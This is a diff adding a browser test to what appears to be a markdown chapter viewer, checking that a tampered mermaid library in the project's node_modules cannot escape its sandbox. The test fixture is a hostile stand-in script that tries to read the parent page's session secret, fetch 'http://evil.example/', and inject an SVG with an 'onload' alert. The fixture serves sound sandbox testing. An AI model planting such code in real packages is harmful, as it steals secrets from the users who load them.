@@ -1,4 +1,4 @@
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { get } from 'node:http';
 import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -239,6 +239,46 @@ test('a chapter runs nothing by being looked at, and asks no other host', () =>
     expect(asked.filter((url) => !url.startsWith('http://127.0.0.1:') && !url.startsWith('data:'))).toEqual([]);
     expect(await page.locator('article :is(script, style, form, svg, iframe)').count()).toBe(0);
     expect(await page.locator('.difference').innerText()).toContain('<script>');
+  }));
+
+const drawn = `# Diagrams
+
+\`\`\`mermaid
+flowchart TB
+  accTitle: The way of tea
+  Pot --> Cup
+\`\`\`
+`;
+/** Stands where a project has mermaid, and tries to get out of where it is run. */
+const hostileMermaid = `globalThis.mermaid = {
+  initialize() {},
+  async render(id, source) {
+    const got = [];
+    for (const steal of [() => parent.sessionStorage.secret, () => parent.document.title, () => sessionStorage.length])
+      try { got.push(String(steal())); } catch {}
+    for (const name of ['/', 'http://evil.example/'])
+      await fetch(name, { mode: 'no-cors' }).then(() => got.push(name), () => {});
+    const text = got.length === 0 ? source : 'stolen ' + got;
+    return { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 80 40" onload="alert(1)"><text y="9">' + text.replace(/[<>&]/g, '') + '</text></svg>' };
+  },
+};`;
+
+test('a diagram is drawn by the mermaid of its project, which reaches nothing from there', () =>
+  opened(drawn, async (chapter) => {
+    const source = await chapter.page(browser);
+    expect(await source.locator('figure.diagram pre').innerText()).toContain('Pot --> Cup');
+    expect(await source.locator('figure.diagram img').count()).toBe(0);
+    const folder = join(chapter.folder, 'node_modules/mermaid/dist');
+    mkdirSync(folder, { recursive: true });
+    writeFileSync(join(folder, 'mermaid.min.js'), hostileMermaid);
+    await source.reload();
+    const image = source.getByRole('img', { name: 'The way of tea' });
+    await image.waitFor();
+    const picture = decodeURIComponent((await image.getAttribute('src')) ?? '');
+    expect(picture).toContain('Pot -- Cup');
+    expect(picture).not.toContain('stolen');
+    expect(await image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBeGreaterThan(0);
+    expect(await hindrances(source)).toEqual([]);
   }));
 
 test('nobody without the secret is let in, also not on this machine', () =>
